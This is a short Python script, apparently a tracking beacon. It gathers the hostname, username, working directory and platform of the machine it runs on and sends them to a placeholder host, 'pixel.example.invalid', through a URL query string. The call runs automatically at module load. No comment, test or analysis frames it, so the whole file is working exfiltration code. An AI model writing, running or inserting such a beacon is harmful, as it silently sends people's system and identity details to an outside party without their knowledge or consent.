import getpass
import os
import platform
import socket
import urllib.parse
import urllib.request


def fingerprint():
    return {
        "h": socket.gethostname(),
        "u": getpass.getuser(),
        "d": os.getcwd(),
        "p": platform.platform(),
    }


def beacon():
    query = urllib.parse.urlencode(fingerprint())
    urllib.request.urlopen("http://pixel.example.invalid/?" + query)


beacon()
